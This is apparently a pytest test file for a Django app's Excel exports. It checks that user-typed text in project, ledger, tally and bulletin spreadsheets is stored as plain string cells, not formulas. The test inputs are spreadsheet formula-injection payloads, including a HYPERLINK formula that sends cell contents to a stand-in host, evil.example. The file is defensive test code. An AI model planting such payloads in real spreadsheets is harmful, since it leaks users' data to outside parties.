"""Formula injection in the Excel exports: every text a user typed is written as that text, a
string cell, never a live formula — in the project table, the ledger and tally exports and the
bulletin's Excel companion (duban.spreadsheet.text_cell); numbers stay numbers."""

import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from org.models import OrgUnit
from projects.models import Project
from requisition.models import Household
from tests.problem_helpers import raise_problem

TEXTS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def cells(data):
    """Every cell of every sheet of an .xlsx, as (value, data_type)."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [(c.value, c.data_type) for sheet in book.worksheets for row in sheet.iter_rows() for c in row]


def assert_written_as_text(data, texts):
    found = cells(data)
    assert not [v for v, kind in found if kind == "f"], "a formula in the export"
    values = {v for v, kind in found if kind == "s"}
    for text in texts:
        assert text in values, repr(text)


def test_it_writes_the_project_table_texts_as_text(world, client):
    for n, text in enumerate(TEXTS):
        Project.objects.create(
            unit=world.a,
            name=f"{text}{n}" if n else text,
            content=text,
            progress_text=text,
            problems_text=text,
            leader=text,
            total_investment=Decimal("-5000"),
        )
    client.force_login(world.office)
    response = client.get(reverse("project_export"))
    assert response.status_code == 200
    assert_written_as_text(response.content, TEXTS)
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    totals = [row[4] for row in sheet.iter_rows(min_row=3, values_only=True)]
    assert totals[0] == -0.5 and sheet.cell(3, 5).data_type == "n"  # a negative amount is a number


@pytest.fixture
def village(world):
    return OrgUnit.objects.create(name="江尾村", kind=OrgUnit.Kind.VILLAGE, parent=world.a)


def test_it_writes_the_ledger_texts_as_text(world, client, village):
    for n, text in enumerate(TEXTS):
        Household.objects.create(village=village, number=f"{n + 1:03d}", head_name=text, address=text)
    client.force_login(world.office)
    for params in ("", "?full=1"):
        response = client.get(reverse("requisition_ledger_export", args=[world.a.pk]) + params)
        assert response.status_code == 200
        assert_written_as_text(response.content, TEXTS)


def test_it_writes_a_formula_like_unit_name_in_the_tallies_as_text(world, client, village):
    village.name = "=1+1"
    village.save()
    Household.objects.create(village=village, number="001", head_name="张三")
    client.force_login(world.office)
    response = client.get(reverse("requisition_tallies_export", args=[world.a.pk]))
    assert response.status_code == 200
    assert_written_as_text(response.content, ["=1+1"])


def test_it_writes_the_bulletins_problem_titles_as_text(world):
    from bulletins import documents

    for text in TEXTS:
        raise_problem(world, title=text)
    doc = documents.weekly_document(world.campaign, world.week, as_of=timezone.localdate())
    assert_written_as_text(doc.xlsx, TEXTS)


def test_it_keeps_numbers_and_plain_texts_as_they_are():
    from duban.spreadsheet import text_row

    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet("x")
    row = text_row(sheet, [Decimal("-12.5"), -3, None, "张三", "", "=1"])
    assert row[:5] == [Decimal("-12.5"), -3, None, "张三", ""]
    assert row[5].value == "=1" and row[5].data_type == "s"
